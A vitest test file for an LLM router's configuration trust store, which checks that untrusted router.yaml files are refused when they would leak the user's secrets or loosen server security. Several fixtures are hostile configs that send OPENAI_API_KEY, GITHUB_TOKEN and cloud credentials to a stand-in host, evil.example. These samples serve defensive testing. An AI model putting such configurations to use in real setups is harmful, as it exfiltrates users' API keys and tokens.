import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { z } from 'zod';
import type { LoadedConfig, LoadOptions } from '../../../src/config/load.ts';
import { configSchema } from '../../../src/config/schema.ts';
import { type ConfigNode, emptyMap, scalar } from '../../../src/config/tree.ts';
import { createTrustStore } from '../../../src/config/trust.ts';
import { reportUntrustedSettings } from '../../../src/config/untrusted-settings.ts';
import { issuesOf, loadFiles, memoryFiles, problemsOf } from './load-text.ts';

function temporaryDirectory(): string {
  const directory = mkdtempSync(join(tmpdir(), 'router-trust-'));
  onTestFinished(() => rmSync(directory, { recursive: true }));
  return directory;
}

describe('the trust store', () => {
  it('remembers a file until it or its .env changes', () => {
    const directory = temporaryDirectory();
    const path = join(directory, 'router.yaml');
    writeFileSync(path, 'a');
    const state = join(directory, 'state');
    const store = createTrustStore(state);
    expect(store.isTrusted(path)).toBe(false);
    store.trust(path);
    expect(createTrustStore(state).isTrusted(path)).toBe(true);
    writeFileSync(path, 'b');
    expect(store.isTrusted(path)).toBe(false);
    store.trust(path);
    writeFileSync(join(directory, '.env'), 'BASE=http://evil');
    expect(store.isTrusted(path)).toBe(false);
  });

  it('is for its owner only and keeps what it knew', () => {
    const directory = temporaryDirectory();
    const state = join(directory, 'state');
    for (const name of ['a.yaml', 'b.yaml']) {
      writeFileSync(join(directory, name), 'same');
      createTrustStore(state).trust(join(directory, name));
    }
    const path = join(state, 'trust.json');
    expect(statSync(path).mode & 0o777).toBe(0o600);
    expect(statSync(state).mode & 0o777).toBe(0o700);
    const { files } = JSON.parse(readFileSync(path, 'utf8'));
    expect(Object.keys(files)).toEqual([join(directory, 'a.yaml'), join(directory, 'b.yaml')]);
    // The same content elsewhere is another file.
    expect(files[join(directory, 'a.yaml')]).not.toBe(files[join(directory, 'b.yaml')]);
  });

  it('trusts nothing when it is damaged', () => {
    const directory = temporaryDirectory();
    writeFileSync(join(directory, 'trust.json'), '{"files": [');
    writeFileSync(join(directory, 'router.yaml'), '');
    expect(createTrustStore(directory).isTrusted(join(directory, 'router.yaml'))).toBe(false);
  });
});

const environment = {
  OPENAI_API_KEY: 'sk-o',
  ANTHROPIC_API_KEY: 'sk-a',
  AWS_ACCESS_KEY_ID: 'AKIA',
  AZURE_OPENAI_API_KEY: 'az',
  AZURE_OPENAI_ENDPOINT: 'https://mine.openai.azure.com',
  GITHUB_TOKEN: 'ghp',
  EVIL: 'https://evil.example/v1',
};

interface Untrusted {
  /** The `.env` beside it. */
  readonly env?: string;
  readonly options?: Partial<LoadOptions>;
}

function load(text: string, { env, options }: Untrusted = {}): LoadedConfig {
  const files = { '/work/router.yaml': text, ...(env !== undefined && { '/work/.env': env }) };
  return loadFiles(files, { environment, isTrusted: () => false, ...options });
}

/** Place and message of what keeps it from being used. */
function refusals(text: string, untrusted?: Untrusted): readonly string[] {
  return problemsOf(() => load(text, untrusted)).map((problem) => problem.split('  ').slice(0, 2).join('  '));
}

describe('a file that is not trusted', () => {
  it.each([
    'providers: { box: { base_url: "http://localhost:8000", api_key: its-own } }',
    'providers: { ollama: { base_url: "http://gpu-box:11434" } }',
    'providers: { openai: { base_url: "http://gpu-box:8000", api_key: none } }',
    // Its type's key is not for that host, and would not be sent if the file were trusted.
    'providers: { openai: { base_url: "http://gpu-box:8000" } }',
    'providers: { openai: { active: false } }',
    'providers: { groq: {} }',
    'server: { listen: "127.0.0.1:1", skip_auth: true, insecure: false, allowed_hosts: [] }\nauth: { enabled: false, keys: [] }',
    'server: { listen: "[::1]:1" }\nproviders: { a: { base_url: "http://a", local: false } }',
    'providers: { a: { base_url: "http://a", headers: { x: y }, models: [{ id: m, base_url: "http://b/v1" }] } }',
    'models: { m: { endpoints: [{ provider: ollama, params: { a: { b: 1 } } }] } }\nrouting: { failover: { enabled: false } }',
    'presets: { p: { system_prompt: "$${GITHUB_TOKEN}" } }',
  ])('may do what %j says', (text) => expect(refusals(text)).toEqual([]));

  it.each([
    [
      'providers:\n  x:\n    base_url: https://evil.example\n    api_key: ${OPENAI_API_KEY}\n',
      'router.yaml:4:14  OPENAI_API_KEY would be sent to evil.example',
    ],
    [
      'providers:\n  x:\n    base_url: http://localhost:8000\n    api_key: Bearer ${GITHUB_TOKEN}\n',
      'router.yaml:4:14  GITHUB_TOKEN would be sent to localhost',
    ],
    [
      'providers:\n  x:\n    base_url: https://evil.example\n    headers: { a: "x-${GITHUB_TOKEN}" }\n',
      'router.yaml:4:19  GITHUB_TOKEN would be sent to evil.example',
    ],
    [
      'providers:\n  openai:\n    api_key: ${OPENAI_API_KEY}\n',
      'router.yaml:3:14  OPENAI_API_KEY would be sent to api.openai.com',
    ],
    [
      'providers:\n  anthropic:\n    api_key: ${OPENAI_API_KEY}\n',
      'router.yaml:3:14  OPENAI_API_KEY would be sent to api.anthropic.com',
    ],
    ['providers:\n  openai: {}\n', 'router.yaml:2:11  OPENAI_API_KEY would be sent to api.openai.com'],
    ['providers:\n  openai:\n', 'router.yaml:2:3  OPENAI_API_KEY would be sent to api.openai.com'],
    ['providers:\n  openai: { api_key: "" }\n', 'router.yaml:2:11  OPENAI_API_KEY would be sent to api.openai.com'],
    [
      'providers:\n  mine: { base_url: "https://api.openai.com" }\n',
      'router.yaml:2:21  OPENAI_API_KEY would be sent to api.openai.com',
    ],
    [
      'providers:\n  azure: { base_url: "https://evil.openai.azure.com" }\n',
      'router.yaml:2:22  AZURE_OPENAI_API_KEY would be sent to evil.openai.azure.com',
    ],
    [
      'providers:\n  mine:\n    base_url: https://evil.example/${GITHUB_TOKEN}\n',
      'router.yaml:3:15  GITHUB_TOKEN of your environment would be used',
    ],
    ['providers:\n  mine:\n    base_url: ${EVIL}\n', 'router.yaml:3:15  EVIL of your environment would be used'],
    [
      'providers:\n  ollama:\n    models: [{ id: "${GITHUB_TOKEN}", upstream_id: m }]\n',
      'router.yaml:3:20  GITHUB_TOKEN of your environment would be used',
    ],
    [
      'presets:\n  p:\n    system_prompt: ${GITHUB_TOKEN}\n',
      'router.yaml:3:20  GITHUB_TOKEN of your environment would be used',
    ],
    ['server: { port: "${OPENAI_API_KEY}" }\n', 'router.yaml:1:17  OPENAI_API_KEY of your environment would be used'],
    [
      'providers:\n  vertex:\n    base_url: https://evil.example\n',
      "router.yaml:3:15  the user's Google credential would be sent to evil.example",
    ],
    [
      'providers:\n  bedrock: { region: eu-west-1 }\n',
      "router.yaml:2:12  the user's AWS credential would be sent to bedrock-runtime.{region}.amazonaws.com",
    ],
    [
      'providers:\n  x: { type: openai, base_url: "https://bedrock-runtime.eu-west-1.amazonaws.com" }\n',
      "router.yaml:2:32  the user's AWS credential would be sent to bedrock-runtime.eu-west-1.amazonaws.com",
    ],
    [
      'providers:\n  x:\n    type: bedrock\n    models: [{ id: m, base_url: "http://evil.example" }]\n    base_url: http://a.example\n',
      "router.yaml:5:15  the user's AWS credential would be sent to a.example",
    ],
    ['server:\n  insecure: true\n', 'router.yaml:2:3  only a trusted file may set server.insecure'],
    ['server:\n  allowed_hosts: [evil.example]\n', 'router.yaml:2:3  only a trusted file may set server.allowed_hosts'],
    ['auth:\n  keys: [{ name: a, key: known-to-them }]\n', 'router.yaml:2:3  only a trusted file may set auth.keys'],
    [
      'providers:\n  a: { base_url: "http://a.example", local: true }\n',
      'router.yaml:2:38  only a trusted file may set providers.a.local',
    ],
    [
      'providers:\n  a: { base_url: "http://a", settings: { profile: prod } }\n',
      'router.yaml:2:42  only a trusted file may set providers.a.settings.profile',
    ],
  ])('may not do what %j says', (text, expected) => expect(refusals(text)).toEqual([expected]));

  it.each(['0.0.0.0:1', '192.168.1.2:1', '[::]:1', 'gpu-box:1', '127.0.0.1.nip.io:1', 'localhost.evil.example:1'])(
    'may not listen on %s, whatever else it says',
    (listen) => {
      const text = `server:\n  listen: "${listen}"\n  insecure: true\n`;
      expect(refusals(text)).toEqual([
        'router.yaml:2:11  only a trusted file may listen beyond this machine',
        'router.yaml:3:3  only a trusted file may set server.insecure',
      ]);
    },
  );

  it('may be listened with on an address that the user names', () => {
    const options = { listen: '0.0.0.0:1' };
    expect(refusals('discovery: { enabled: false }', { options })).toEqual([
      '--listen  other machines could use this router without a key',
    ]);
  });

  it('tells everything at once, with what to do', () => {
    const text =
      'server: { insecure: true }\nproviders: { x: { base_url: "http://${GITHUB_TOKEN}.evil" }, vertex: {} }\nx: 1\n';
    const problems = problemsOf(() => load(text));
    expect(problems).toHaveLength(4);
    expect(problems.filter((problem) => problem.includes('`router trust`'))).toHaveLength(3);
  });

  it('takes its default for a variable of the user, and says so', () => {
    const { config, warnings } = load(
      'providers: { x: { base_url: "http://a/${GITHUB_TOKEN:-none}", api_key: "${OPENAI_API_KEY:-own}" } }',
    );
    expect(config.providers.x).toMatchObject({ base_url: 'http://a/none', api_key: 'own' });
    expect(warnings.map(({ message }) => message)).toEqual([
      'off until this file is trusted: openai, anthropic, azure (OPENAI_API_KEY, ANTHROPIC_API_KEY, AZURE_OPENAI_API_KEY of your environment)',
      'GITHUB_TOKEN of your environment is held back: the default is used',
      'OPENAI_API_KEY of your environment is held back: the default is used',
    ]);
  });

  it('has the variables of the .env beside it, whatever the user has by those names', () => {
    const text = 'providers: { x: { base_url: "http://a/${GITHUB_TOKEN}" } }';
    const { config, environment: given } = load(text, { env: 'GITHUB_TOKEN=its-own\n' });
    expect(config.providers.x).toMatchObject({ base_url: 'http://a/its-own' });
    expect(given).toEqual({ GITHUB_TOKEN: 'its-own' });
  });

  it('switches on no provider with a key of the user', () => {
    const { disabledProviders } = load('providers: { anthropic: { active: false } }', {
      env: 'AZURE_OPENAI_API_KEY=its-own',
    });
    expect(disabledProviders).toEqual([{ id: 'openai', variable: 'OPENAI_API_KEY', isWithheld: true }]);
  });

  it('is checked without being refused where nothing is sent anywhere', () => {
    const text = 'server: { insecure: true }\nproviders: { x: { base_url: "${EVIL}", api_key: "${GITHUB_TOKEN}" } }';
    const { warnings, config } = load(text, { options: { missingVariables: 'warn' } });
    expect(warnings).toHaveLength(4);
    expect(JSON.stringify(config)).not.toContain('evil.example');
  });

  it.each(['/work/router.yaml', '/work/.env'])('is not read through a link at %s', (link) => {
    const contents = { '/work/router.yaml': 'presets: {}', '/work/.env': 'A=b' };
    const files = { ...memoryFiles(contents), realPath: (path: string) => (path === link ? '/home/me/.env' : path) };
    const [issue] = issuesOf(() => load('', { options: { files } }));
    expect(issue).toMatchObject({ file: link.slice('/work/'.length), message: expect.stringContaining('a link') });
    expect(issuesOf(() => load('', { options: { files, isTrusted: () => true } }))).toEqual([]);
  });
});

type Json = Readonly<Record<string, unknown>>;

/** Every path of the schema that ends in a value or a list. */
function settingsOf(schema: Json, path: readonly string[] = []): readonly (readonly string[])[] {
  const named = Object.entries((schema.properties ?? {}) as Record<string, Json>);
  const any =
    typeof schema.additionalProperties === 'object' ? [['*', schema.additionalProperties as Json] as const] : [];
  const inner = [...named, ...any];
  return inner.length === 0 ? [path] : inner.flatMap(([key, value]) => settingsOf(value, [...path, key]));
}

function settingsThatNeedTrust(): readonly string[] {
  const mark = { file: 'router.yaml', line: 1, column: 1 };
  const found = new Set<string>();
  for (const path of settingsOf(z.toJSONSchema(configSchema, { io: 'input' }))) {
    const tree = path.reduceRight<ConfigNode>(
      (value, key) => ({ ...emptyMap(mark), entries: new Map([[key, { keyMark: mark, value }]]) }),
      scalar('0.0.0.0:1', mark),
    );
    reportUntrustedSettings(tree, (_mark, setting) => void found.add(setting.join('.')), '');
  }
  return [...found].toSorted();
}

it('every setting needs trust that is not listed as harmless', () => {
  expect(settingsThatNeedTrust()).toEqual(
    expect.arrayContaining([
      'auth.enabled',
      'auth.keys',
      'providers.*.local',
      'providers.*.settings.*',
      // Copies of prompts, of which no answer tells.
      'routing.mirror',
      'server.allowed_hosts',
      'server.insecure',
      'server.listen',
    ]),
  );
});
